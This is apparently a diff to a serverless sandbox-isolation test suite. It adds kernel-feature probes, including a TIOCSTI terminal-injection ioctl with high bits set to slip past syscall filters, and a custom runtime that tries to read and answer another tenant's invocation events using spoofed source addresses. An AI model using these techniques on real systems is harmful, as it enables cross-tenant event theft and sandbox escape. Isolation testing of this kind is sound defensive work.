@@ -72,6 +72,11 @@ SYSTEM = {
     'trace': lambda: call('ptrace', 16, 1, None, None),
     'load a module': lambda: call('syscall', {'x86_64': 175, 'aarch64': 105}[os.uname().machine], None, 0, b''),
     'packet socket': lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(),
+    'netlink of the firewall': lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12).close(),
+    'socket of the kernel for ciphers': lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET).close(),
+    # The kernel reads the lower half of the number alone.
+    'push into a terminal': lambda: call('ioctl', 0, ctypes.c_ulong(0x5412)),
+    'push into a terminal, unseen': lambda: call('ioctl', 0, ctypes.c_ulong(0x100005412)),
     'raw socket': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close(),
     'make a device': lambda: os.mknod('/tmp/mem', 0o600 | 0o020000, os.makedev(1, 1)),
     'open memory': lambda: read('/dev/mem'),
@@ -124,4 +129,67 @@ def hide():
 
 def handler(event, context):
     return ACTIONS[event['action']](event)
+`;
+
+/** A custom runtime that, on an event, asks for the events of another one at every address it could be had by. */
+export const INTRUDING_RUNTIME = `#!/usr/bin/env python3
+import errno, http.client, json, os, socket
+
+PATH = '/2018-06-01/runtime/invocation/'
+OWN = os.environ['AWS_LAMBDA_RUNTIME_API'].split(':')
+IP_FREEBIND = 15
+
+def ask(host, port, path=PATH + 'next', method='GET', source=None):
+    connection = http.client.HTTPConnection(host, int(port), timeout=5)
+    if source is not None:
+        connection._create_connection = lambda *_: connect_from(source, host, int(port))
+    connection.request(method, path, body=None if method == 'GET' else '"stolen"')
+    answer = connection.getresponse()
+    body = answer.read()
+    request = answer.headers.get('Lambda-Runtime-Aws-Request-Id')
+    connection.close()
+    return request or str(answer.status), body
+
+def connect_from(source, host, port):
+    client = socket.socket()
+    client.settimeout(5)
+    client.setsockopt(socket.IPPROTO_IP, IP_FREEBIND, 1)
+    client.bind((source, 0))
+    client.connect((host, port))
+    return client
+
+def outcome(*args, **options):
+    try:
+        return ask(*args, **options)[0]
+    except OSError as error:
+        return errno.errorcode.get(error.errno, type(error).__name__)
+
+def address():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+        probe.connect((OWN[0], 9))
+        return probe.getsockname()[0]
+
+def steal(event):
+    theirs = event['address']
+    on_loopback = theirs.replace('169.', '127.', 1)
+    return {
+        # While it runs, the runtime API gives the same event again.
+        'own': outcome(*OWN),
+        'foreign': [
+            outcome(theirs, 9001),
+            outcome(on_loopback, 24901),
+            outcome(*OWN, source=theirs),
+            outcome(*OWN, source=on_loopback),
+            outcome(*OWN, path=PATH + event['requestId'] + '/response', method='POST'),
+        ],
+    }
+
+while True:
+    request, body = ask(*OWN)
+    event = json.loads(body)
+    answer = steal(event) if event['action'] == 'steal' else {'address': address()}
+    connection = http.client.HTTPConnection(*OWN)
+    connection.request('POST', PATH + request + '/response', json.dumps({**answer, 'requestId': request}))
+    connection.getresponse().read()
+    connection.close()
 `;
